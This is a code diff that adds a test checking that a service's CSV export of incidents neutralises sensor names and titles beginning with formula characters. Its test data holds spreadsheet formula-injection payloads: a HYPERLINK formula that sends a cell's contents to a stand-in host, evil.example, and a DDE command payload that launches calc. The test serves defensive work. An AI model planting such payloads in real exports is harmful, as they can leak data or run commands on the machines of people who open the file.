@@ -360,6 +360,49 @@ test("CSV export: attacker text that starts with =, +, -, @, tab or CR is neutra
     seeded.push({ id: e.id, time: e.time, severity: e.severity, sensorId: web.id, sourceIp: ip })
 })
 
+test("CSV export of incidents: a sensor name or title that starts with =, +, -, @, tab or CR is neutralised; quotes, commas, unicode survive", async () => {
+  // Sensor names as an admin may give them (printable, trimmed): a formula start is a valid name.
+  const names = [
+    `=HYPERLINK("http://evil.example/?"&A1,"Click") ${RUN}`,
+    `+cmd|' /C calc'!A0 ${RUN}`,
+    `-2+3 ${RUN}`,
+    `@SUM(1,2) ${RUN}`,
+    `＝1+1 ${RUN}`,
+    `plain, with "quotes" 🦊 ñ 中文 ${RUN}`,
+  ]
+  // Titles as the worst case a cell can hold, tab and CR first too (the service writes its own titles; these go in
+  // by SQL).
+  const titles = ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"]
+  const made: Array<{ id: string; name: string; title: string }> = []
+  for (const [i, name] of names.entries()) {
+    const sensor = await createSensor(db, orgId, name)
+    const { incident } = await seedIncident(db, {
+      orgId,
+      sensorId: sensor.id,
+      sourceIp: `192.0.2.${70 + i}`,
+      events: [{ time: new Date(Date.UTC(2026, 10, 21, 0, 0, i)) }],
+    })
+    const title = titles[i] as string
+    await sql((s) => s`update incidents set title = ${title} where id = ${incident.id} returning 1`)
+    made.push({ id: incident.id, name, title })
+  }
+  const csv = await csvOf("/incidents.csv")
+  expect(csv.status).toBe(200)
+  const [header, ...rows] = csv.rows
+  const column = (name: string) => header?.indexOf(name) ?? -1
+  const byId = new Map(rows.map((r) => [r[0], r]))
+  const neutralised = (text: string) => (/^(?:[\t\r]|[=+\-@\uFF1D])/.test(text) ? `'${text}` : text)
+  for (const m of made) {
+    const row = byId.get(m.id) as Array<string>
+    expect(row).toBeDefined()
+    expect(row[column("sensorName")]).toBe(neutralised(m.name))
+    expect(row[column("title")]).toBe(neutralised(m.title))
+  }
+  // Every cell of the export, not only these: none starts a formula.
+  for (const row of rows)
+    for (const cell of row) expect(/^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(cell)).toBe(false)
+})
+
 test("the source network filter is served by an index (no sequential scan), alone and with a cursor", async () => {
   for (const after of [undefined, { time: new Date(), id: "evt_Z" }]) {
     const { text, params } = eventListStatement({
